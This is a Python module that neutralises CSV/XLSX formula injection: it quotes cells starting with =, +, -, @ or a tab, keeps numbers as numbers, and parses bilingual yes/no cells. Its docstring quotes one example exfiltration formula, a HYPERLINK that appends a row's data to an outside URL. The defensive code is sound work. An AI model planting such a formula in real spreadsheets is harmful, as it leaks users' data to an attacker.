"""Text cells that a spreadsheet shows and never runs: every CSV and XLSX file that chiso writes
passes its text through here.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
strips a leading tab or carriage return first): a unit's name or an answer typed as
``=HYPERLINK("http://…?leak="&B2,"…")`` would otherwise become a live link that sends the
row's data away. OWASP's advice ("CSV Injection") is followed: such a text is written in CSV
with an apostrophe before it, which the spreadsheet shows as text and hides; in XLSX it is a
text cell with the spreadsheet's own quote prefix (what Excel stores for a cell typed
``'=…``), shown as typed. A number stays a number: a numeric text such as ``-5`` or ``-1,5``
is a value, not a formula, and is written as it is. Reading chiso's CSV back removes the
apostrophe (:func:`unquote`), so names and answers come back as they were typed."""

from __future__ import annotations

import re
import unicodedata
from typing import Any

__all__ = [
    "has_control_characters",
    "needs_quote",
    "printable",
    "quote",
    "sheet_text",
    "text_cell",
    "unquote",
    "yes_no",
]

_STARTS = frozenset("=+-@\t\r'")  # a look at the first character spares most texts the patterns
_SPECIAL = _STARTS | {"#"}  # and openpyxl's error values, #N/A …
_RUNS = re.compile(r"'*[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def needs_quote(text: str) -> bool:
    """Whether ``text`` is one a spreadsheet would run (and not a plain number), or such a
    text already quoted with apostrophes (quoted once more, so that :func:`unquote` gives
    back exactly what was written)."""
    return text[:1] in _STARTS and _RUNS.match(text) is not None and _NUMBER.fullmatch(text) is None


def quote(value: Any) -> Any:
    """A CSV cell's value: a text a spreadsheet would run with an apostrophe before it; any
    other value as it is."""
    if isinstance(value, str) and needs_quote(value):
        return "'" + value
    return value


def unquote(text: str) -> str:
    """A CSV cell's text as it was before :func:`quote`."""
    if text[:1] == "'" and needs_quote(text[1:]):
        return text[1:]
    return text


_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
"""The control characters that XLSX cannot hold (openpyxl refuses them)."""


def has_control_characters(text: str) -> bool:
    """Whether ``text`` holds a character that an XLSX cell (or a DOCX) cannot hold: what a
    name or a typed answer is refused for."""
    return _CONTROL.search(text) is not None


def printable(value: Any) -> Any:
    """``value`` with the control characters that an XLSX cell cannot hold removed: a text
    stored with one (a name, an answer) must not stop a whole workbook."""
    if isinstance(value, str) and _CONTROL.search(value):
        return _CONTROL.sub("", value)
    return value


def sheet_text(sheet: Any, value: Any) -> Any:
    """What to append to an openpyxl ``sheet`` for ``value``: a text that openpyxl would not
    write as plain text (``=…`` a formula, ``#N/A`` an error) or that a spreadsheet would run
    as a cell of :func:`text_cell`; any other value as it is (the fastest to write), without
    the control characters XLSX cannot hold (:func:`printable`)."""
    value = printable(value)
    if isinstance(value, str) and value[:1] in _SPECIAL:
        from openpyxl.cell import WriteOnlyCell

        return text_cell(WriteOnlyCell(sheet, value=value))
    return value


def text_cell(cell: Any) -> Any:
    """An openpyxl cell whose text is held as text: openpyxl writes a text that starts with
    ``=`` as a formula, and ``#N/A`` as an error. A text a spreadsheet would run gets the
    quote prefix, so that it stays text when the cell is edited."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if needs_quote(cell.value):
            cell.quotePrefix = True
    return cell


YES = frozenset({"1", "có", "co", "yes", "y", "x", "true", "đạt", "dat"})
"""The texts read as yes (after :func:`yes_no` folds case): Vietnamese and English, with and
without the accents, as a spreadsheet writes a true (``TRUE``) and as a cell is ticked (``x``)."""
NO = frozenset({"0", "không", "khong", "no", "n", "false", "không đạt", "khong dat"})
"""The texts read as no."""


def yes_no(text: str) -> bool | None:
    """A yes/no cell's text read in either language (``Có``, ``yes``, ``x``, ``1`` …; ``Không``,
    ``no``, ``0`` …), whatever its case and however its accents are encoded: True, False, or
    None for any other text, a blank one included (what a blank means is each caller's to
    say)."""
    folded = text.strip().casefold()
    if not folded.isascii():
        folded = unicodedata.normalize("NFC", folded)
    if folded in YES:
        return True
    if folded in NO:
        return False
    return None
